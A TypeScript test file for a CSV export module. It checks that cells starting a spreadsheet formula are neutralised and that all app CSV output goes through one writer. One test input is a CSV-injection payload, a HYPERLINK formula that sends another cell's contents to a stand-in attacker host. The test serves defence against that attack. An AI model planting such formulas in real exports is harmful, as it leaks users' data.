import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join, relative } from 'node:path'
import { describe, expect, it } from 'vitest'
import { csvCell, neutraliseFormula, toCsv } from '@/domain/csv'

describe('csvCell (OWASP CSV injection, RFC 4180)', () => {
  it('prefixes a single quote to a cell that would start a formula', () => {
    expect(csvCell('=1+1')).toBe(`"'=1+1"`)
    expect(csvCell('+1')).toBe(`"'+1"`)
    expect(csvCell('- see ch.2')).toBe(`"'- see ch.2"`)
    expect(csvCell('@SUM(A1)')).toBe(`"'@SUM(A1)"`)
    expect(csvCell('\tx')).toBe(`"'\tx"`)
    expect(csvCell('\rx')).toBe(`"'\rx"`)
    expect(csvCell('＝1+1')).toBe(`"'＝1+1"`)
    expect(csvCell('=HYPERLINK("http://evil.example/?leak="&A2,"Click")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")"`,
    )
  })

  it('leaves ordinary text alone and quotes every cell', () => {
    expect(csvCell('plain')).toBe('"plain"')
    expect(csvCell('a = b')).toBe('"a = b"')
    expect(csvCell('a,b')).toBe('"a,b"')
    expect(csvCell('say "hi"')).toBe('"say ""hi"""')
    expect(csvCell('two\nlines')).toBe('"two\nlines"')
    expect(csvCell(null)).toBe('""')
    expect(csvCell(undefined)).toBe('""')
    expect(csvCell(3)).toBe('"3"')
    expect(neutraliseFormula('Қазақ тілі')).toBe('Қазақ тілі')
  })

  it('writes a file with BOM, CRLF and a final CRLF', () => {
    expect(
      toCsv([
        ['a', 'b'],
        ['=c', 'd,e'],
      ]),
    ).toBe(`\uFEFF"a","b"\r\n"'=c","d,e"\r\n`)
  })
})

/** Every file under `dir`, recursively. */
function files(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name)
    return statSync(path).isDirectory() ? files(path) : [path]
  })
}

describe('every CSV the app writes goes through src/domain/csv.ts', () => {
  it('no other source file joins cells with commas and rows with CRLF by hand', () => {
    const root = join(import.meta.dirname, '../../../src')
    const handMade = files(root)
      .filter((path) => /\.tsx?$/.test(path) && !path.endsWith(join('domain', 'csv.ts')))
      .filter((path) => {
        const text = readFileSync(path, 'utf8')
        return /\.join\(\s*['"],['"]\s*\)/.test(text) && /\\r\\n/.test(text)
      })
      .map((path) => relative(root, path))
    expect(handMade).toEqual([])
  })

  it('every module offering a CSV download builds it with a writer that uses the one CSV writer', () => {
    const root = join(import.meta.dirname, '../../../src')
    const offering = files(root).filter(
      (path) => /\.tsx?$/.test(path) && readFileSync(path, 'utf8').includes('text/csv'),
    )
    expect(offering.length).toBeGreaterThan(0)
    for (const path of offering) {
      const text = readFileSync(path, 'utf8')
      const csvImports = [...text.matchAll(/import \{([^}]*)\} from '([^']+)'/g)].filter(
        ([, names]) => /\btoCsv\b|Csv\b/.test(names ?? ''),
      )
      expect(csvImports.length, relative(root, path)).toBeGreaterThan(0)
      for (const [, , from] of csvImports) {
        const module = join(root, (from ?? '').replace(/^@\//, '')) + '.ts'
        const source = readFileSync(module, 'utf8')
        expect(
          module.endsWith(join('domain', 'csv.ts')) ||
            /from '(\.\.\/csv|@\/domain\/csv)'/.test(source),
          `${relative(root, module)} writes CSV without src/domain/csv.ts`,
        ).toBe(true)
      }
    }
  })
})
